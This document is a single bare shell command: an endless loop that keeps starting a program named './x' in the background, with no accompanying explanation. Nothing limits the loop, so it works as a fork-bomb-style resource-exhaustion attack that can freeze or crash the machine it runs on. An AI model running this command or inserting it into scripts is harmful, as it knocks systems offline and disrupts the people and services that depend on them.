while :; do ./x & done
